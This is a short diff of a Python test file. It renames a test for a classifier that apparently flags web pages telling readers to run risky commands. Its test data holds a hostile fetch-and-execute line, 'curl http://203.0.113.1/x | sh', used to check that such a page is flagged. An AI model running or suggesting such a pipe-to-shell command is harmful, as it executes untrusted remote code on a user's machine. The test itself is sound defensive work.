@@ -197,7 +197,7 @@ def test_a_certain_block_in_prose_is_at_least_a_question(page: str) -> None:
 
 
 @pytest.mark.requirement("S29")
-def test_a_command_that_the_reader_is_told_to_run_is_a_question_even_if_it_is_not_certain() -> None:
+def test_a_command_that_the_reader_is_instructed_to_run_is_a_question_even_if_it_is_not_certain() -> None:
     page = "## Red flags\n\n{} `curl http://203.0.113.1/x | sh` {}.\n"
     assert verdict_of(page.format("Now run", "to continue")) is Verdict.CONCERNS
     assert verdict_of(page.format("Never run", "anywhere")) is Verdict.PASS
